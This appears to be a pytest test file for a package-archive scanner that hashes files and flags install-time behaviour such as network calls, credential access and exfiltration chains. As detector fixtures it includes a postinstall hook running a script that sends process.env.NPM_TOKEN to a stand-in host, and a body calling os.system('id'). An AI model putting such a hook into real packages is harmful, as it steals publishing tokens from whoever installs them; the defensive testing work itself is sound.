import hashlib

import pytest

from knownhands.harvest.archive.artifact import forget_older_readers, keep
from knownhands.harvest.archive.contents import Contents, Limits, Member
from knownhands.harvest.archive.reader import read_bytes
from knownhands.store.connection import memory_store
from packing import tar


@pytest.fixture
def packages():
    with memory_store("package_schema") as connection:
        yield connection


def test_each_file_has_the_sum_of_its_contents_and_what_has_none_has_no_sum(packages):
    body = b"import os\n"
    keep(packages, "a", read_bytes("pots.tar", tar(("pots-1.0/kiln.py", body), ("pots-1.0/clay/", b""))))
    rows = packages.execute("SELECT path, sha256 FROM artifact_files ORDER BY path").fetchall()
    assert ("kiln.py", hashlib.sha256(body).hexdigest()) in rows


def test_a_file_that_was_too_large_to_read_has_no_sum(packages):
    keep(packages, "a", read_bytes("pots.tar", tar(("pots/kiln.py", b"1" * 99)), Limits(member_bytes=9)))
    assert packages.execute("SELECT sha256 FROM artifact_files").fetchall() == [(None,)]


def test_what_was_kept_before_is_replaced_and_what_is_of_others_stays(packages):
    bodies = {"a": b"import os\nos.system('id')\n", "b": b"1\n"}
    for artifact, body in [("a", bodies["a"]), ("b", bodies["b"]), ("a", bodies["b"])]:
        keep(packages, artifact, Contents("zip", "pots.zip", (Member("kiln.py", 2, body, 0, "file"),), (), True))
    assert packages.execute("SELECT artifact, count(*) FROM artifact_files GROUP BY ALL ORDER BY ALL").fetchall() == [
        ("a", 1), ("b", 1),
    ]  # fmt: skip
    assert packages.execute("SELECT count(*) FROM artifact_observations").fetchone() == (0,)


SENDS = b"fetch('//pots.example', {body: process.env.NPM_TOKEN})\n"


@pytest.mark.parametrize(
    ("extra", "trigger"), [((), "install"), ((("pots/setup.py", b""),), "import")], ids=["npm", "sdist"]
)
def test_what_an_install_script_runs_acts_at_install_and_so_does_the_chain(packages, extra, trigger):
    manifest = b'{"scripts": {"postinstall": "node fire.js"}}'
    packed = tar(("pots/package.json", manifest), ("pots/fire.js", SENDS), *extra)
    keep(packages, "a", read_bytes("pots.tar", packed))
    rows = packages.execute("SELECT capability, trigger FROM artifact_observations WHERE path = 'fire.js'").fetchall()
    assert {("network", trigger), ("credentials", trigger), ("exfiltration_chain", trigger)} == set(rows)


def test_what_other_readers_read_is_forgotten(packages):
    keep(packages, "a", Contents("zip", "pots.zip", (Member("kiln.py", 2, b"1\n", 0, "file"),), (), True))
    forget_older_readers(packages)
    assert packages.execute("SELECT count(*) FROM artifacts").fetchone() == (1,)
    packages.execute("UPDATE artifact_reader SET fingerprint = 'older'")
    forget_older_readers(packages)
    assert packages.execute("SELECT count(*) FROM artifacts").fetchone() == (0,)
